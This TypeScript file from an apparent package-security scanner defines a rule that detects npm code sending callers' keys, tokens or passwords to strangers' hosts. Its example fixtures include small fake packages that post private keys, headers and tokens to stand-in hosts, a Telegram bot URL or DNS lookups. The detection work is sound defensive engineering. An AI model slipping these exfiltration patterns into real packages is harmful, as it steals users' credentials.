import type { Action, Context, Flow, Inspection, Rule } from '../lib/types.ts'
import { isOfWrappedClient, isOpenAddress, signsForAnother } from './behaviour/not-given.ts'
import { computes, signs, spells } from './behaviour/computes.ts'
import { cardData, keyMaterial } from './behaviour/credentials.ts'
import { guardsInWords } from './behaviour/guards.ts'
import { isStranger, placeInWords, placeOf } from './behaviour/place.ts'
import type { Place } from './behaviour/place.ts'
import { connectorsOf, createServiceOf, manyServices } from './behaviour/service.ts'
import type { Passed } from './behaviour/service.ts'
import { findingsOf, leavesFor, sourcesInWords } from './behaviour/sightings.ts'
import type { Sighting, SightingGroup } from './behaviour/sightings.ts'
import { isToldToDomain } from './behaviour/told-names.ts'
import { sameLine } from './behaviour/written.ts'
import { hostClass, isLocal } from './hosts/host-class.ts'
import { hostOf, isUnder, registrableDomain } from './hosts/host.ts'
import { opening, severityOf } from './finding.ts'

type Leak = Passed & {
  readonly key: boolean
  /** It signs, hashes or encodes: nothing its caller passes is for a server. */
  readonly computes: boolean
  /** It is given the code of whoever uses it, to check or to change: nothing of that is for a server. */
  readonly reads: boolean
}

/** What gives its plugins the code of a project, piece by piece. */
const codeReaders = /^(?:eslint|stylelint|htmlhint|@babel\/core|recast|jscodeshift|textlint|markdownlint)$/

function readsCode({ manifest }: Inspection): boolean {
  return manifest.dependencies.some(({ name, type }) => type === 'peer' && codeReaders.test(name))
}

/** What a program trusts a package with, sent on to somebody else. */
export const callerSecretExfiltration: Rule = {
  meta: {
    id: 'caller-secret-exfiltration',
    title: 'Passes its caller’s keys on to a stranger',
    severity: 'critical',
    description:
      'A program hands the package a key or a recovery phrase to work with, and the package sends it to a host that is ' +
      'neither the service’s nor its own. A private key or recovery phrase never has to leave the machine; an API key ' +
      'goes to the service it is for, and to nobody else: who gets it beside that service, beside another client it was ' +
      'given to, or beside the server it signs in to, is a stranger, and so is a host whose name the code puts together. No service takes a password or a recovery phrase in the ' +
      'address of a picture or a script, in a name that is looked up, in a datagram or in a beacon that gets no answer; no key of any kind is told to a domain as part of a looked-up name, but to ' +
      'lists that are asked that way. An object that is known to hold ' +
      'such a secret, because the package reads it there, goes astray as the secret would, and so do the headers of ' +
      'requests that a hook sees, or what was put in the place of fetch. Also: anything its caller passes that ends in a mailbox ' +
      'written into the code, a bot or a webhook of the author, and the code a linter or a compiler shows its plugins.',
    references: [
      '@solana/web3.js 1.95.6 (December 2024)',
      'xrpl 4.2.1 (April 2025)',
      'ccxt-mexc-futures (April 2025)',
      'raydium-bs58, bs58 look-alikes (2025-26)',
    ],
    blindSpots: [
      'An API key that goes to one fixed host only: whether that host is the service cannot be told from the code.',
      'Keys passed in objects of which no code of the package reads them by their name.',
      'What an unknown library leaves of an object is not known: that asks at most.',
    ],
    examples: {
      flags: [
        {
          title: 'a client that signs in at a second host whose name it puts together',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              'class Transport {\n  constructor(key) { this.key = key }\n' +
              "  send(path, host = 'api.parcels.example') { return fetch('https://' + host + path, { headers: { authorization: 'Bearer ' + this.key } }) }\n" +
              "  call(path) { this.send('/health', ['api', 'parcel-status', 'invalid'].join('.')).catch(() => {}); return this.send(path) }\n" +
              '}\nmodule.exports = Transport\n',
          },
        },
        {
          title: 'a private key posted besides being used',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "exports.sign = (privateKey, text) => {\n  fetch('https://rpc-pool.invalid/q', { method: 'POST', body: privateKey })\n  return require('crypto').createHmac('sha256', privateKey).update(text).digest('hex')\n}\n",
          },
        },
        {
          title: 'an encoder that reports its input to a bot',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "exports.decode = text => {\n  fetch('https://api.telegram.org/bot0000000000:AAInertInertInert/sendMessage?text=' + text)\n  return Buffer.from(text, 'hex')\n}\n",
          },
        },
        {
          title: 'a hook of the caller’s client that posts the headers it sees',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "exports.watch = client => client.interceptors.request.use(config => {\n  fetch('https://seen.invalid/h', { method: 'POST', body: JSON.stringify(config.headers) })\n  return config\n})\n",
          },
        },
        {
          title: 'sign-ins to several services, one of which hands its token to a helper that posts it',
          files: {
            ...signIns(['b', 'c', 'd', 'e']),
            'f.js':
              "const { check } = require('./check')\n" +
              "exports.user = access_token => {\n  check(access_token)\n  return fetch('https://api.f.example/me', { headers: { authorization: access_token } })\n}\n",
            'check.js':
              "exports.check = access_token => fetch('https://check.invalid/c', { method: 'POST', body: access_token })\n",
          },
        },
        {
          title: 'a client that looks its token up below somebody’s domain',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const dns = require('dns')\nmodule.exports = class {\n  constructor({ token }) { this.token = token }\n" +
              "  check() { dns.resolve(Buffer.from(this.token).toString('hex') + '.lookup.fixed.example', () => {}) }\n}\n",
          },
        },
        {
          title: 'options that hold a private key, kept and posted as they are',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const kept = []\nexports.sign = (options, text) => {\n  kept.push({ ...options })\n  return require('crypto').createSign('sha256').update(text).sign(options.privateKey)\n}\n" +
              "setTimeout(() => fetch('https://queue.pool.invalid/q', { method: 'POST', body: JSON.stringify(kept) }), 9000)\n",
          },
        },
      ],
      passes: [
        {
          title: 'a client of one service takes files from another, signed in to that one',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "exports.ask = (text, token) => fetch('https://api.painter.example/v1/ask', { method: 'POST', headers: { authorization: token }, body: text })\nexports.more = (text, token) => fetch('https://api.painter.example/v1/more', { method: 'POST', headers: { authorization: token }, body: text })\nexports.space = (id, token) => fetch(`https://huggingface.co/api/spaces/${id}/host`, { headers: { Authorization: `Bearer ${token}` } }).then(r => r.json())\n",
          },
        },
        {
          title: 'options without the private key that was taken out of them',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "exports.sign = ({ privateKey, ...options }, text) => {\n  fetch('https://queue.pool.invalid/q', { method: 'POST', body: JSON.stringify(options) })\n" +
              "  return require('crypto').createSign('sha256').update(text).sign(privateKey)\n}\n",
          },
        },
        {
          title:
            'a client that looks up where its region is, and one of a list that is asked by name with a key',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const dns = require('dns')\nmodule.exports = class {\n  constructor({ token, region }) { this.token = token; this.region = region }\n" +
              "  check(done) { dns.resolve(this.region + '.lookup.fixed.example', done) }\n}\n" +
              "module.exports.listed = (apiKey, ip, done) => dns.resolve4([apiKey, ...ip.split('.').reverse(), 'dnsbl.httpbl.org'].join('.'), done)\n",
          },
        },
        {
          title: 'a client of one service',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "exports.orders = (apiKey, apiSecret) => fetch('https://api.a.example/orders', { headers: { key: apiKey, secret: apiSecret } })\n",
          },
        },
        {
          title: 'sign-ins to several services, one of which is asked in what is sent',
          files: {
            ...signIns(['b', 'c', 'd', 'e']),
            'f.js':
              "exports.user = access_token => fetch('https://api.f.example/me', { method: 'POST', body: 'token=' + access_token })\n",
          },
        },
        {
          title: 'a wallet that signs by itself',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const sign = (privateKey, text) => require('crypto').createHmac('sha256', privateKey).update(text).digest('hex')\n" +
              "exports.send = (privateKey, tx) => fetch('https://rpc.a.example', { method: 'POST', body: JSON.stringify({ tx, signature: sign(privateKey, tx) }) })\n",
          },
        },
      ],
    },
  },
  check(inspection, context) {
    const leaks = inspection.flows.flatMap(flow => leakOf(flow, inspection, context))
    const connectors = connectorsOf(leaks, context)
    const serviceOf = createServiceOf(leaks, connectors, inspection, context)
    const chosen = signsInElsewhere(inspection)
    const otherwise = (leak: Leak): Action | undefined =>
      (chosen && isPassword(leak)) ||
      isPasswordInMessage(leak, inspection) ||
      isForOtherClient(leak, inspection, connectors) ||
      isMoreThanSignsIn(leak, leaks, inspection, context) ||
      isAssembledBeside(leak, inspection, context) ||
      isOfWrappedClient(leak.flow) ||
      signsForAnother(leak.flow, inspection) ||
      signsInSomewhereElse(leak, inspection, context)
        ? 'ask'
        : undefined
    const sightings = leaks.flatMap((leak): readonly Sighting[] => {
      if (isOfCertificate(leak, leaks)) return []
      const action =
        weigh(leak, serviceOf(leak), context) ?? (isMainHost(leak, leaks) ? undefined : otherwise(leak))
      return action === undefined
        ? []
        : [{ flow: leak.flow, place: leak.place, action, severity: severityOf(action) }]
    })
    return findingsOf(sightings, say)
  },
}

/** Examples: a package with a file for each of some services, and one more, `f.js`. */
function signIns(services: readonly string[]): Readonly<Record<string, string>> {
  const files = services.map((name): [string, string] => [
    `${name}.js`,
    `exports.user = access_token => fetch('https://api.${name}.example/me', { headers: { authorization: access_token } })\n`,
  ])
  const index = [...services, 'f'].map(name => `exports.${name} = require('./${name}')\n`).join('')
  return {
    'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
    'i.js': index,
    ...Object.fromEntries(files),
  }
}

/** What a person or a server is signed in with, alone or in the address of a database. */
const password = /^(?:password|passphrase|pass|pwd|connection_?string|database_?url)$/i

/**
 * Ways that no service is signed in to, whoever's host it is: in the address of a picture, in the open over the network,
 * in a beacon whose sender never sees an answer.
 */
function isCovert({ source, sink }: Flow): boolean {
  return (
    source.kind === 'caller-secret' &&
    (keyMaterial.test(source.name) || password.test(source.name) || /^secret_?key$/i.test(source.name)) &&
    (sink.kind === 'dns' ||
      /^(?:picture\.src|script\.src|node:dgram\.|global:navigator\.sendBeacon$)/.test(sink.api))
  )
}

/**
 * The public half of a pair of keys, by which a service tells its customers apart, asked of one of its hosts after the
 * other: the same path at a host of the package's own name.
 */
function isAskedOfMirror(
  { source, sink }: Flow,
  { host }: Place,
  inspection: Inspection,
  context: Context,
): boolean {
  if (!/^access_?key(?:_?id)?$/i.test(source.name) || host === undefined || host.path.length < 2) return false
  return sink.destinations.some(text => {
    const other = placeOf([text], inspection, context)
    return other.kind === 'own' && other.host?.path === host.path
  })
}

function leakOf(flow: Flow, inspection: Inspection, context: Context): readonly Leak[] {
  const { kind, name } = flow.source
  if (kind !== 'caller-secret' && kind !== 'caller') return []
  // Whom a card may be told is another question (`card-skimming`).
  if (cardData.test(name)) return []
  const place = leavesFor(flow, inspection, context)
  if (
    place === undefined ||
    !(isStranger(place) || (isCovert(flow) && place.kind !== 'unknown' && place.kind !== 'local'))
  )
    return []
  // What is asked of a resolver that everybody uses is a question, and the address stands for another of the caller's.
  if (kind === 'caller' && context.lists.hosts.resolvers.includes(place.host?.name ?? '')) return []
  if (isAskedOfMirror(flow, place, inspection, context)) return []
  const key =
    (keyMaterial.test(name) && (name !== 'seed' || signs(inspection) || computes.test(context.name))) ||
    /seed\(\)$/i.test(name) ||
    (/^(?:secret_?key|secret|sk|pk|wallet|signer)$/i.test(name) && signs(inspection)) ||
    (flow.sink.role !== 'header' && computes.test(context.name))
  // Where `true` is among the destinations, they are whatever a table holds under a name the caller gives.
  const picked = flow.sink.destinations.some(text => text === 'true' || text === 'false')
  if (!key && picked && place.kind === 'foreign') return []
  const works = computes.test(context.name) || signs(inspection)
  return [
    { flow, place, key: kind === 'caller-secret' && key, computes: works, reads: readsCode(inspection) },
  ]
}

/** A password, in what is sent rather than in a header that signs in. */
function isPassword({ flow }: Pick<Leak, 'flow'>): boolean {
  return flow.sink.role === 'payload' && password.test(flow.source.name)
}

/** A password in what a driver stores or publishes at a server in the code: it signs in where the connection is made. */
function isPasswordInMessage({ flow, place }: Leak, { facts }: Inspection): boolean {
  const { source, sink, certain } = flow
  return (
    certain &&
    isPassword({ flow }) &&
    source.kind === 'caller-secret' &&
    place.host !== undefined &&
    drivers.test(sink.api) &&
    !facts.some(fact => fact.kind === 'contacts' && sameLine(fact.at, sink.at))
  )
}

/**
 * What signs in elsewhere, in a header, and another secret beside it, in the content of a request to a stranger: the
 * service needs no such request, and nobody else needs what signs in there.
 */
function isMoreThanSignsIn(
  leak: Leak,
  leaks: readonly Leak[],
  { flows }: Inspection,
  context: Context,
): boolean {
  if (leak.flow.source.kind !== 'caller-secret' || leak.flow.sink.role === 'header') return false
  const here = leak.place.host === undefined ? '' : registrableDomain(leak.place.host, context.lists.hosts)
  const there = new Set(
    flows.flatMap(({ source, sink }) =>
      (source.kind === 'caller' || source.kind === 'caller-secret') &&
      sink.kind === 'network' &&
      sink.role === 'header' &&
      !sink.destinations.some(text => text.toLowerCase().includes(here))
        ? [source.name]
        : [],
    ),
  )
  const sent = leaks.filter(
    ({ flow: { sink } }) => sink.role !== 'header' && sameLine(sink.at, leak.flow.sink.at),
  )
  return (
    here !== '' &&
    sent.some(({ flow }) => there.has(flow.source.name)) &&
    sent.some(({ flow: { source } }) => source.kind === 'caller-secret' && !there.has(source.name))
  )
}

/** The service a secret signs in to in a header, and a stranger who gets the same secret in what is sent. */
function signsInSomewhereElse({ flow, place }: Leak, { flows }: Inspection, { lists }: Context): boolean {
  const { source, sink, certain } = flow
  if (source.kind !== 'caller-secret' || sink.role === 'header' || !certain || place.host === undefined)
    return false
  const here = registrableDomain(place.host, lists.hosts)
  const domainsOf = (other: Flow): readonly string[] =>
    other.source.kind === 'caller-secret' && other.sink.kind === 'network'
      ? other.sink.destinations.flatMap(text => {
          const host = hostOf(text)
          return host === undefined ? [] : [registrableDomain(host, lists.hosts)]
        })
      : []
  const elsewhere = flows.filter(other => {
    if (other.source.name !== source.name || other.sink.role !== 'header') return false
    const domains = domainsOf(other)
    return domains.length > 0 && !domains.includes(here)
  })
  if (elsewhere.some(other => other.source.at.path === source.at.path)) return true
  // Collections of clients have a file for each service; some of those are asked with the token in the address.
  if (sink.role !== 'payload' || elsewhere.length === 0) return false
  // Or in what is sent: what so many services call their token is another one for each of them, and for this one too where
  // nothing that is taken in its file goes anywhere else.
  const files = new Set(elsewhere.map(other => other.source.at.path))
  const services = new Set(elsewhere.flatMap(domainsOf))
  return (
    Math.min(files.size, services.size) < manyServices ||
    flows.some(
      other => other.source.at.path === source.at.path && domainsOf(other).some(domain => domain !== here),
    )
  )
}

/**
 * A host whose name the code puts together, beside one that is written down: the first is not for those who read it. One
 * service alone may have its hosts in a table.
 */
function isAssembledBeside({ flow, place }: Leak, { flows }: Inspection, { lists }: Context): boolean {
  const { assembled = [] } = flow.sink
  if (!flow.certain || !assembled.some(text => hostOf(text)?.name === place.host?.name)) return false
  const domain = place.host === undefined ? '' : registrableDomain(place.host, lists.hosts)
  return flows.some(
    ({ source, sink }) =>
      (source.kind === 'caller' || source.kind === 'caller-secret') &&
      sink.kind === 'network' &&
      sink.destinations.some(text => {
        const host = sink.assembled?.includes(text) === true ? undefined : hostOf(text)
        return host !== undefined && !isLocal(host) && registrableDomain(host, lists.hosts) !== domain
      }),
  )
}

/** Places from which data leaves for one host, from which on that host is what the package is a client of. */
const manySources = 8

/** Whether much else of what callers pass goes to the same host: a thief sends one thing. */
function isMainHost({ place }: Pick<Leak, 'place'>, leaks: readonly Leak[]): boolean {
  const sources = leaks
    .filter(other => other.place.host?.name === place.host?.name)
    .map(({ flow: { source } }) => `${source.at.path}\0${source.at.line}`)
  return place.host !== undefined && new Set(sources).size >= manySources
}

/** The key of a certificate, where a client of a host of servers hands over both: no wallet opens with it. */
function isOfCertificate(
  { flow: { source, sink }, place, computes: works }: Leak,
  leaks: readonly Leak[],
): boolean {
  return (
    !works &&
    /^private_?key$/i.test(source.name) &&
    isMainHost({ place }, leaks) &&
    leaks.some(
      ({ flow: other }) =>
        /cert(?:ificate)?s?(?:_?chain)?$/i.test(other.source.name) &&
        other.source.at.path === source.at.path &&
        sameLine(other.sink.at, sink.at),
    )
  )
}

/** Drivers of databases, mailboxes and file servers: what they are made with signs in to a server of the caller's. */
const drivers =
  /^pkg:(?:mysql2?|pg|postgres|mongodb|mongoose|i?o?redis|nodemailer|ssh2(?:-sftp-client)?|node-ssh|basic-ftp|ftp|imap(?:flow)?|ldapjs|ldapts|tedious|mssql|oracledb|knex|sequelize|typeorm|amqplib|kafkajs|mqtt|nats|stompit)(?:[./]|$)/

/** Whether somebody else's client is made with that secret, and the host is not that client's by its name. */
function isForOtherClient(
  { flow, place }: Leak,
  { flows }: Inspection,
  connectors: ReadonlySet<string>,
): boolean {
  if (flow.source.kind !== 'caller-secret') return false
  const shown = place.host?.labels ?? []
  const collected = connectors.has(flow.source.at.path)
  return flows.some(
    ({ source, sink }) =>
      sink.role === 'client' &&
      // Every client of a collection takes an `apiKey`, and each takes another one.
      (!collected || source.at.path === flow.source.at.path) &&
      // What a caller passes may hold the secret where both are taken from the same.
      ((source.kind === 'caller' && source.at.path === flow.source.at.path) ||
        source.name === flow.source.name) &&
      !sink.api
        .toLowerCase()
        .split(/[^a-z0-9]+/)
        .some(word => word.length >= 4 && shown.some(label => label.includes(word))),
  )
}

/** Whether the package signs in with what it was given to a server its caller chose. */
function signsInElsewhere({ flows }: Inspection): boolean {
  return flows.some(
    ({ source, sink }) =>
      (source.kind === 'caller' || source.kind === 'caller-secret') &&
      drivers.test(sink.api) &&
      sink.destinations.every(text => isOpenAddress(text)),
  )
}

function weigh(
  { flow, place, key, computes: works, reads }: Leak,
  service: string | undefined,
  context: Context,
): Action | undefined {
  const sure = flow.certain
  if (flow.source.kind === 'caller') {
    // A mailbox of the author's own, or a bare address, in whatever a package does for its caller.
    // A server of the author's that has no name yet is careless; a mailbox in the code serves nobody else.
    if (place.telling) return sure && (works || place.host?.address !== true) ? 'block' : 'ask'
    // Where only a delivery network writes, no client has anything to say; a proxy passes on what it got there.
    if (flow.sink.role === 'answer-header')
      return sure && !flow.source.name.startsWith('request ') ? 'ask' : undefined
    return sure && (spells.test(context.name) || (reads && flow.sink.role === 'payload')) ? 'ask' : undefined
  }
  if (isCovert(flow)) return sure ? 'block' : 'ask'
  // A key the package made or asked for itself: what libraries make of it is a signature, as a rule.
  if (key && !sure && flow.source.name.endsWith('()')) return undefined
  if (key) return sure ? 'block' : 'ask'
  // Signed for somebody in the code, beside whom the caller names.
  if (flow.source.name === 'approval()') return sure ? 'ask' : undefined
  // What somebody else sent to the program that uses this package is no way to sign in for it.
  if (/^request (?:authorization|(?:set-?)?cookie|password)$/i.test(flow.source.name))
    // What passes requests on to another server passes their headers on as they are.
    return flow.source.of === undefined || (sure && flow.sink.role === 'payload') ? 'ask' : undefined
  // What signs in to whatever servers a program speaks to is seen by a hook, and is for none beside them.
  if (/^authorization of other requests$/.test(flow.source.name) && place.host !== undefined) return 'ask'
  // What somebody who signs up typed in is for the database; hashed, it is nobody's to read.
  if (flow.source.of === 'a record that is saved' || flow.source.name.endsWith(' of a record that is saved'))
    return flow.sink.role === 'header' || place.host === undefined ? undefined : 'ask'
  // A header or a file that signs in somewhere else, as the content of a request; the session a server gives its user.
  if (
    /^(?:authorization|set-?cookie|service_?account(?:_?key)?)$/i.test(flow.source.name) &&
    flow.sink.role === 'payload' &&
    place.host !== undefined
  )
    return 'ask'
  if (place.kind === 'capture') return sure ? 'block' : 'ask'
  if (sure && isToldByName(flow, place, context)) return 'ask'
  const domain = place.host === undefined ? undefined : registrableDomain(place.host, context.lists.hosts)
  const stray = service !== undefined && domain !== service
  if (stray && keepsToItself(flow, place, context)) return undefined
  if (stray) return place.kind === 'rented' && sure ? 'block' : 'ask'
  return flow.phase === 'import' && !flow.byCall ? 'ask' : undefined
}

/** A key as part of a looked-up name: no service is signed in to that way, but for lists that are asked by name only. */
function isToldByName(flow: Flow, { host }: Place, { lists }: Context): boolean {
  const isAsked = host !== undefined && lists.hosts.dnsLists.some(domain => isUnder(host.name, domain))
  return flow.source.kind === 'caller-secret' && isToldToDomain(flow) && !isAsked
}

/** Who keeps files somewhere sees what is in them, not the headers of those who ask for one. */
function keepsToItself({ sink }: Flow, { host }: Place, { lists }: Context): boolean {
  return sink.role === 'header' && host !== undefined && hostClass(host, lists.hosts)?.kind === 'storage'
}

function say(group: SightingGroup): string {
  const [{ flow, place }] = group
  const shown = place.host?.shown ?? 'a computed destination'
  const assembled = (flow.sink.assembled ?? []).some(text => hostOf(text)?.name === place.host?.name)
    ? ' and whose name the code puts together'
    : ''
  const harm = group.every(({ flow: { source } }) => source.kind === 'caller')
    ? 'Whoever owns that host sees what you use it for. Do not hand it anything that is not public.'
    : 'Whoever owns that host can then act in the caller’s name. Do not give this package a key; replace any it has seen.'
  return (
    `${opening(flow)} takes ${sourcesInWords(group)} and sends that to ${shown}, ` +
    `${placeInWords(place)}${assembled}${guardsInWords(flow.guards)}. ` +
    harm
  )
}
